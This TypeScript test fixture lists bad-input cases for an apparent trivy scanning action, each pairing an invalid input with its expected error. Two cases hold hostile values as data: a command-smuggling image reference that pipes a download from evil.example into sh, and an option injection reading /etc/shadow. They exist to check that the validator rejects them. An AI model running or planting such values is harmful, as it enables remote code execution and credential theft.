// Bad input → one line naming the input (or file) and what was expected. Exported as data for the
// cross-action bad-input corpus. `files` (optional) are written into the workspace first; every case
// runs in an empty workspace otherwise, with trivy available at the default version (or version:
// system with trivy on PATH). `outcome` is config-error unless given.
export const cases: Array<{ name: string; inputs: Record<string, string>; expect: RegExp; files?: Record<string, string>; outcome?: 'tool-error' }> = [
  {
    name: 'unknown target type',
    inputs: { targets: 'docker:alpine:3.22' },
    expect: /input "targets" must use the types image, image-input, fs, config, repo, sbom \(one type:value per line\); got "docker:alpine:3\.22"/,
  },
  { name: 'unknown scanner', inputs: { scanners: 'vuln,rootkit' }, expect: /input "scanners" must list scanners from vuln, secret, misconfig, license; got "rootkit"/ },
  { name: 'image tarball that does not exist', inputs: { targets: 'image-input:build/image.tar' }, expect: /input "targets" must name an existing path; got "build\/image\.tar"/ },
  {
    name: 'image reference with shell metacharacters',
    inputs: { targets: 'image:alpine:3.22; curl https://evil.example | sh' },
    expect: /input "targets" image: must be an image reference such as ghcr\.io\/acme\/web:1\.4\.2/,
  },
  { name: 'image reference that is an option', inputs: { targets: 'image:--input=/etc/shadow' }, expect: /input "targets" image: must be an image reference/ },
  {
    name: 'malformed .trivyignore.yaml',
    inputs: { targets: 'config:.' },
    files: { '.trivyignore.yaml': 'vulnerabilities:\n  - id: CVE-2099-1\n    paths: [unclosed\n' },
    expect: /\.trivyignore\.yaml is not valid YAML/,
  },
  {
    name: 'malformed .trivyignore expiry',
    inputs: { targets: 'config:.' },
    files: { '.trivyignore': 'CVE-2099-1 exp:next-week\n' },
    expect: /\.trivyignore:1: exp: must be a date such as 2026-12-31; got "next-week"/,
  },
  { name: 'ignore-file that does not exist', inputs: { 'ignore-file': '.trivyignore.yml' }, expect: /input "ignore-file" must name an existing path; got "\.trivyignore\.yml"/ },
  { name: 'fail-on out of range', inputs: { 'fail-on': 'severe' }, expect: /input "fail-on" must be one of critical, high, medium, low, info, none; got "severe"/ },
  { name: 'ignore-unfixed not a boolean', inputs: { 'ignore-unfixed': 'yes' }, expect: /input "ignore-unfixed" must be true or false; got "yes"/ },
  {
    name: 'the compromised trivy release',
    inputs: { version: '0.69.4' },
    expect: /input "version" must not be 0\.69\.4: it was published by the March 2026 supply-chain compromise/,
  },
  {
    name: 'db repository with a scheme',
    inputs: { 'db-repositories': 'https://ghcr.io/aquasecurity/trivy-db:2' },
    expect: /input "db-repositories" must list OCI repositories such as ghcr\.io\/aquasecurity\/trivy-db:2 \(no scheme\)/,
  },
  {
    name: 'offline with no database cached',
    inputs: { targets: 'fs:.', offline: 'true', 'cache-dir': 'empty-cache' },
    expect: /offline is true but no vulnerability database is cached in .*empty-cache or the Actions cache/,
  },
  {
    name: 'unreachable registry with no cache',
    // The default cache-dir (in the runner's tool cache) is empty on a fresh runner.
    inputs: { targets: 'fs:.', 'db-repositories': '127.0.0.1:9/trivy-db:2' },
    expect: /could not download the vulnerability database from any repository: 127\.0\.0\.1:9\/trivy-db:2 \(connection refused\)/,
    outcome: 'tool-error',
  },
];
